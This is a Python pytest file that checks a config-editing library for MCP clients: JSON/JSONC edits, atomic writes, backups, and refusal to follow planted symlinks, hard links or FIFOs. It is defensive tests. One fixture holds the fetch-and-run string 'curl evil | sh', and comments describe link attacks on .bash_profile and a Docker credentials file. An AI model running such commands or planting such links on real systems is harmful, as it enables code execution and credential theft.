"""``awf_mcp.clients.editors`` and ``.jsonedit``: all-or-nothing writes, links and backups; JSON edits."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from awf_mcp.clients import editors, jsonedit
from awf_mcp.errors import UserError


def test_set_entry_keeps_user_keys_and_drops_owned_keys_it_no_longer_sets(tmp_path: Path) -> None:
    edit = jsonedit.json_edit(jsonedit.set_entry(("servers", "awf"), {"command": "new"}, owned=("trust",)))
    old = json.dumps({"servers": {"awf": {"env": {"A": "1"}, "command": "old", "trust": True}}})
    assert json.loads(edit(old, tmp_path / "f.json")) == {
        "servers": {"awf": {"env": {"A": "1"}, "command": "new"}}
    }


def test_apply_edits_writes_nothing_when_any_file_is_broken(tmp_path: Path) -> None:
    good, bad = tmp_path / "good.json", tmp_path / "bad.json"
    bad.write_text("{")
    add = jsonedit.json_edit(jsonedit.add_to_list(("allow",), ["x"]))
    with pytest.raises(UserError, match="not valid JSON"):
        editors.apply_edits([editors.Edit(good, "json", add), editors.Edit(bad, "json", add)])
    assert not good.exists() and bad.read_text() == "{"


def test_apply_edits_is_idempotent_and_keeps_a_backup(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text('{"allow": []}')
    add = editors.Edit(path, "json", jsonedit.json_edit(jsonedit.add_to_list(("allow",), ["x"])))
    first = editors.apply_edits([add])
    assert first.changed == [path] and first.backups == [tmp_path / "s.json.bak"]
    second = editors.apply_edits([add])
    assert second.changed == [] and second.unchanged == [path]
    assert second.summary() == f"{path} already up to date: nothing changed"


# --------------------------------------------------------------------------- JSON, JSONC


def test_jsonc_is_read_with_strings_kept_and_comments_and_trailing_commas_dropped() -> None:
    text = '{\n  // line\n  "a": "http://x/*y*/", /* block\n over lines */ "b": [1, 2,], // end\n}\n'
    assert jsonedit.loads_json(text, comments=True) == {"a": "http://x/*y*/", "b": [1, 2]}
    with pytest.raises(json.JSONDecodeError):
        jsonedit.loads_json(text)


def test_remove_from_list_removes_only_the_items_and_what_it_leaves_empty(tmp_path: Path) -> None:
    edit = jsonedit.json_edit(jsonedit.remove_from_list(("p", "deny"), ["A", "B"]))
    where = tmp_path / "s.json"
    assert json.loads(edit('{"p": {"deny": ["A", "C"], "allow": []}}', where)) == {
        "p": {"deny": ["C"], "allow": []}
    }
    assert json.loads(edit('{"p": {"deny": ["A", "B"]}, "x": 1}', where)) == {"x": 1}
    assert json.loads(edit('{"x": 1}', where)) == {"x": 1}


def test_an_unreadable_file_says_what_is_wrong_apart_from_its_path_and_advice(tmp_path: Path) -> None:
    where = tmp_path / "c.json"
    with pytest.raises(editors.UnreadableFile) as bad_json:
        jsonedit.parse_json('{"a": ', where)
    assert bad_json.value.path == where and bad_json.value.reason.startswith("is not valid JSON (")
    assert str(bad_json.value).startswith(f"{where} {bad_json.value.reason}; not touching it")
    where.write_bytes(b"\xff")
    with pytest.raises(editors.UnreadableFile) as not_text:
        editors.read(where)
    assert not_text.value.reason == "is not UTF-8 text"


# --------------------------------------------------------------------------- links, backups, text


def json_add(path: Path, project: Path | None = None) -> editors.Edit:
    return editors.Edit(path, "json", jsonedit.json_edit(jsonedit.add_to_list(("allow",), ["x"])), project)


def test_a_dangling_link_at_the_backup_name_is_not_followed(tmp_path: Path) -> None:
    # A repository plants `.mcp.json.bak -> ../home/.bash_profile`, which does not exist yet.
    project, home = tmp_path / "repo", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    (project / "s.json").write_text('{"attacker": "curl evil | sh"}')
    (project / "s.json.bak").symlink_to("../home/.bash_profile")
    report = editors.apply_edits([json_add(project / "s.json", project)])
    assert not (home / ".bash_profile").exists() and not os.path.lexists(home / ".bash_profile")
    assert (project / "s.json.bak").is_symlink()
    [copy] = report.backups
    assert copy != project / "s.json.bak" and not copy.is_symlink()
    assert copy.read_text() == '{"attacker": "curl evil | sh"}'


def test_a_link_at_the_backup_name_to_an_existing_file_is_never_written(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine\n")
    (tmp_path / "s.json").write_text("{}")
    (tmp_path / "s.json.bak").symlink_to(victim)
    editors.apply_edits([json_add(tmp_path / "s.json")])
    assert victim.read_text() == "mine\n"


def test_a_project_file_that_is_a_link_is_refused_untouched(tmp_path: Path) -> None:
    # `.mcp.json -> ~/.docker/config.json`: nothing may be read, copied or written through it.
    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
    project.mkdir()
    secret.write_text('{"auths": {"x": "s3cret"}}')
    (project / ".mcp.json").symlink_to(secret)
    with pytest.raises(UserError, match=r"\.mcp\.json is a symbolic link; .* remove the link"):
        editors.apply_edits([json_add(project / ".mcp.json", project)])
    assert secret.read_text() == '{"auths": {"x": "s3cret"}}'
    assert sorted(p.name for p in project.iterdir()) == [".mcp.json"]


def test_a_project_directory_that_is_a_link_is_refused(tmp_path: Path) -> None:
    project, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    project.mkdir()
    elsewhere.mkdir()
    (project / ".claude").symlink_to(elsewhere)
    good = json_add(project / "ok.json", project)
    with pytest.raises(UserError, match=r"\.claude is a symbolic link"):
        editors.apply_edits([good, json_add(project / ".claude" / "settings.json", project)])
    assert list(elsewhere.iterdir()) == [] and not (project / "ok.json").exists()


def test_a_project_file_with_another_hard_link_is_refused(tmp_path: Path) -> None:
    project, secret = tmp_path / "repo", tmp_path / "credentials.json"
    project.mkdir()
    secret.write_text("{}")
    os.link(secret, project / ".mcp.json")
    with pytest.raises(UserError, match="other hard link"):
        editors.apply_edits([json_add(project / ".mcp.json", project)])
    assert secret.read_text() == "{}" and not (project / ".mcp.json.bak").exists()


def test_the_users_own_link_is_written_through_and_kept(tmp_path: Path) -> None:
    # A dotfile manager: ~/.claude.json -> dotfiles/claude.json.
    home = tmp_path / "home"
    (home / "dotfiles").mkdir(parents=True)
    real = home / "dotfiles" / "claude.json"
    real.write_text('{"theme": "dark"}')
    real.chmod(0o600)
    (home / ".claude.json").symlink_to("dotfiles/claude.json")
    report = editors.apply_edits([json_add(home / ".claude.json")])
    assert (home / ".claude.json").is_symlink() and os.readlink(
        home / ".claude.json"
    ) == "dotfiles/claude.json"
    assert json.loads(real.read_text()) == {"theme": "dark", "allow": ["x"]}
    assert report.changed == [home / ".claude.json"] and report.backups == [home / ".claude.json.bak"]
    assert (home / ".claude.json.bak").read_text() == '{"theme": "dark"}'
    assert stat.S_IMODE(real.stat().st_mode) == 0o600
    assert stat.S_IMODE((home / ".claude.json.bak").stat().st_mode) == 0o600
    assert sorted(p.name for p in (home / "dotfiles").iterdir()) == ["claude.json"]


def test_an_existing_backup_is_kept_and_the_new_one_gets_a_name_of_its_own(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_bytes(b'{"allow": []}\r\n')
    (tmp_path / "s.json.bak").write_text("the user's own backup")
    [copy] = editors.apply_edits([json_add(path)]).backups
    assert (tmp_path / "s.json.bak").read_text() == "the user's own backup"
    assert copy.name.startswith("s.json.2") and copy.read_bytes() == b'{"allow": []}\r\n'


def test_a_lone_surrogate_in_a_json_file_is_written_back_as_its_escape(tmp_path: Path) -> None:
    path = tmp_path / "s.json"
    path.write_text('{"k": "a\\ud800b"}')
    editors.apply_edits([json_add(path)])
    assert json.loads(path.read_text()) == {"k": "a\ud800b", "allow": ["x"]}


def test_a_fifo_planted_at_a_config_name_is_refused_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / ".mcp.json")
    with pytest.raises(editors.UnreadableFile, match="not a regular file"):
        editors.apply_edits([json_add(tmp_path / ".mcp.json", tmp_path)])
